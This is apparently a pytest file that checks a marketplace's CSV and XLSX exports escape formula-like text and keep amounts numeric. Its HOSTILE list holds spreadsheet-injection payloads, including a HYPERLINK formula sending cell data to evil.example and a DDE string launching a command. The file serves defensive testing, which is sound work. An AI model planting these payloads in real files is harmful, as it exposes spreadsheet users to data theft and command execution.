"""Every export writes formula-like text so that no spreadsheet runs it, and numbers as numbers."""
import csv
import io

import pytest
from openpyxl import load_workbook

from marketplace import exports

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")', "@SUM(1)", "+33 6 12", "-2+3+cmd|' /C calc'!A0",
           "\tcaché", "\r=1+1"]


def read_csv(text: str) -> list[list[str]]:
    """Rows as a spreadsheet program's CSV reader sees them."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_quoted_in_csv(text):
    assert read_csv(exports.csv_document([["Nom", text]]))[0] == ["Nom", "'" + text]


def test_numbers_stay_numbers_in_csv_and_plain_text_is_untouched():
    rows = read_csv(exports.csv_document([[exports.euros(-1250), -3, exports.euros(5), "Pain - 400 g", None]]))
    assert rows == [["-12,50", "-3", "0,05", "Pain - 400 g", ""]]


def test_xlsx_writes_text_as_strings_never_formulas_and_amounts_as_numbers():
    data = exports.xlsx_document("Feuille", ["Nom", "Montant", "Quantité"],
                                 [[text, exports.euros(-1250), -3] for text in HOSTILE])
    sheet = load_workbook(io.BytesIO(data)).active
    for row, text in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=True):
        assert (row[0].value, row[0].data_type) == (text, "s")
        assert (row[1].value, row[1].data_type, row[1].number_format) == (-12.5, "n", exports.MONEY_FORMAT)
        assert (row[2].value, row[2].data_type) == (-3, "n")
